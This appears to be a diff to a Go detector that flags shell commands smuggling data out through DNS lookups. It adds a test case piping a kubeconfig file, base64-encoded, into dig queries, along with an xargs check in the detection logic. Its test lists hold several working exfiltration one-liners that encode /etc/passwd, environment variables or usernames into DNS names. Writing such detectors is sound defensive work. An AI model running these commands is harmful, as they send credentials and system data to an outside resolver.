@@ -21,9 +21,9 @@ var exfilDNS = Detector{
 		}
 		return nil
 	}),
-	Fire: append(lines(coi.High, "dig @8.8.8.8 -p 53 $(echo secret | base64).example.com", "for l in $(xxd -p /etc/passwd); do dig $l.example.com; done", "nslookup $(cat /etc/hostname | base64).example.com", "host $(whoami).x.example.com", "cat f | xxd -p -c 16 | while read l; do dig +short $l.t.example.com; done", "ping -c 1 $(id -un | base32).example.com", "dig ZGF0YSBmb3IgdGhlIHJlc29sdmVyIHRvIGNhcnJ5.example.com", "cp /usr/bin/dig /tmp/d; /tmp/d $(env | base64 -w0).example.com"),
+	Fire: append(lines(coi.High, "dig @8.8.8.8 -p 53 $(echo secret | base64).example.com", "for l in $(xxd -p /etc/passwd); do dig $l.example.com; done", "nslookup $(cat /etc/hostname | base64).example.com", "host $(whoami).x.example.com", "cat f | xxd -p -c 16 | while read l; do dig +short $l.t.example.com; done", "cat ~/.kube/config | base64 -w0 | fold -w 50 | xargs -I{} dig {}.e.example.com", "ping -c 1 $(id -un | base32).example.com", "dig ZGF0YSBmb3IgdGhlIHJlc29sdmVyIHRvIGNhcnJ5.example.com", "cp /usr/bin/dig /tmp/d; /tmp/d $(env | base64 -w0).example.com"),
 		events(event.Event{Type: event.Net, Op: "dns.tunnel", Name: "example.com"})...),
-	Quiet: lines("", "dig example.com", "dig +short $(hostname)", "nslookup example.com 8.8.8.8", "host -t mx example.com", "ping -c1 $HOST", "dig @$(cat ns.txt) example.com", "for h in a b; do dig $h.example.com; done", "dig _acme-challenge.example.com TXT", "dig +short $SUBDOMAIN.example.com"),
+	Quiet: lines("", "seq 3 | xargs -I{} dig node{}.example.com", "dig example.com", "dig +short $(hostname)", "nslookup example.com 8.8.8.8", "host -t mx example.com", "ping -c1 $HOST", "dig @$(cat ns.txt) example.com", "for h in a b; do dig $h.example.com; done", "dig _acme-challenge.example.com TXT", "dig +short $SUBDOMAIN.example.com"),
 }
 
 var encodedLabel = regexp.MustCompile(`(?:^|\.)([A-Za-z0-9+/=_-]{28,63})\.`)
@@ -48,6 +48,9 @@ func dnsOut(s *command.Simple, v track.View) *Finding {
 			from = encoders(from)
 		}
 		if len(from) > 0 && (strings.Contains(host, ".") || strings.Contains(host, "$()")) && carriesData(from, v) && !(strings.Contains(a, "://") && host == command.HostOf(a) && !resolver && !strings.Contains(host, "$()") && !mixed(strings.SplitN(host, ".", 2)[0])) {
+			return say(s, coi.High, "data in a name asked for").to(host)
+		}
+		if strings.Contains(host, "{}.") && carriesData(s.From, v) { // xargs
 			return say(s, coi.High, "data in a name asked for").to(host)
 		}
 		if resolver && (s.Dynamic || s.Loop) && strings.Contains(a, "$") && len(encoders(s.Stdin)) > 0 {
